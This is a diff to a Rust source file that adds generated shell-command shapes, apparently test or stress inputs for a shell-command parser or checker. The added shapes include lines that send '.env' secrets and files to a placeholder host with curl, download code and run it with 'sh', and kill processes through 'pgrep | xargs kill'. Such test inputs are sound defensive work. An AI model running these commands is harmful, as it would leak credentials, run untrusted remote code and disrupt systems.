@@ -220,6 +220,24 @@ pub(crate) const SHAPES: &[Shape] = &[
     ("pipeline", |n| {
         numbered(n, |i| format!("grep a{i} | ")) + "b"
     }),
+    ("pipeline-of-senders", |n| {
+        numbered(n, |i| format!("curl -d @a{i} h | ")) + "b"
+    }),
+    ("pipeline-of-interpreters", |n| {
+        numbered(n, |i| format!("python3 a{i} | ")) + "sh"
+    }),
+    ("pipeline-of-readers", |n| {
+        numbered(n, |i| format!("cat .env a{i} | ")) + "curl -d @- h"
+    }),
+    ("copied-and-sent", |n| {
+        numbered(n, |i| format!("cat .env > a{i}; curl -d @b{i} h; "))
+    }),
+    ("written-and-run", |n| {
+        numbered(n, |i| format!("curl h > a{i}; sh b{i}; "))
+    }),
+    ("listed-and-killed", |n| {
+        numbered(n, |i| format!("pgrep a{i} | xargs kill; "))
+    }),
     ("pipeline-of-echo", |n| "echo a | ".repeat(n / 9) + "cat"),
     ("quotes", |n| format!("echo {}", "'a'\"b\"".repeat(n / 6))),
     ("quoted-words", |n| {
